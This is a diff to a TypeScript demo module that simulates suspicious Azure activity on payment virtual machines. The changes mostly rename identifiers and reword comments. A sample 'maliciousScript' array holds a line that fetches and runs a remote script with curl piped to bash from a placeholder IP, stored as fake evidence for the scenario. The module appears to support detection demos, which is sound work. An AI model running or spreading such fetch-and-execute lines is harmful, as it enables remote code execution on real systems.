@@ -5,11 +5,11 @@ export const runCommand = 'Microsoft.Compute/virtualMachines/runCommand/action';
 const managed = 'Microsoft.Compute/virtualMachines/runCommands/write';
 const day = 86_400_000;
 
-/** A piece of the story: what happens in the tenant when it is played. */
+/** A demo scenario: adds events to the tenant when it is played. */
 export interface Scenario {
   name: string;
   says: string;
-  /** Not one of the story's acts: played from the panel, or by its name. */
+  /** Not played by default, only from the panel or by name. */
   extra?: true;
   play: (tenant: Tenant, world: World) => void;
 }
@@ -23,8 +23,10 @@ const evidence = {
   principalType: 'Group',
 };
 
-/** The past that makes the present odd: two months of a patch job, and of Dana's days. */
-export function past(tenant: Tenant, { people, vms }: World): void {
+/**
+ * Logs usual activity that makes the scenarios stand out: two months of patching, four weeks of Dana's work.
+ */
+export function logHistory(tenant: Tenant, { people, vms }: World): void {
   const now = tenant.state.now();
   for (let week = 1; week <= 8; week++) {
     tenant.log({
@@ -51,7 +53,7 @@ export function past(tenant: Tenant, { people, vms }: World): void {
   }
 }
 
-const stolen = [
+const maliciousScript = [
   '#!/bin/bash',
   'set -e',
   'curl -fsSL https://203.0.113.99/i.sh | bash',
@@ -77,7 +79,7 @@ export const scenarios: readonly Scenario[] = [
   },
   {
     name: 'night',
-    says: 'Somebody of support runs commands on a payment machine for the first time, after three refusals',
+    says: 'A support engineer runs commands on a payment machine for the first time, after three denied attempts',
     play: (tenant, { people, vms }) => {
       const at = tenant.state.now() - 180_000;
       const ip = '203.0.113.24';
@@ -99,7 +101,7 @@ export const scenarios: readonly Scenario[] = [
         tookMs: 2000,
       });
       const script = addChild(tenant, vms.pay01, 'runCommands', 'maintenance', {
-        source: { script: stolen },
+        source: { script: maliciousScript },
         parameters: [{ name: 'target', value: 'vm-pay-01' }],
         runAsUser: 'root',
         provisioningState: 'Succeeded',
@@ -128,7 +130,7 @@ export const scenarios: readonly Scenario[] = [
   },
   {
     name: 'extension',
-    says: 'Somebody puts a custom script extension on a payment machine',
+    says: 'Someone installs a custom script extension on a payment machine',
     extra: true,
     play: (tenant, { people, vms }) => {
       const at = tenant.state.now() - 90_000;
@@ -151,7 +153,7 @@ export const scenarios: readonly Scenario[] = [
   },
   {
     name: 'refused',
-    says: 'Somebody without the right tries, and Azure refuses',
+    says: 'Someone without permission tries to run a command, and Azure denies it',
     extra: true,
     play: (tenant, { people, vms }) => {
       tenant.log({
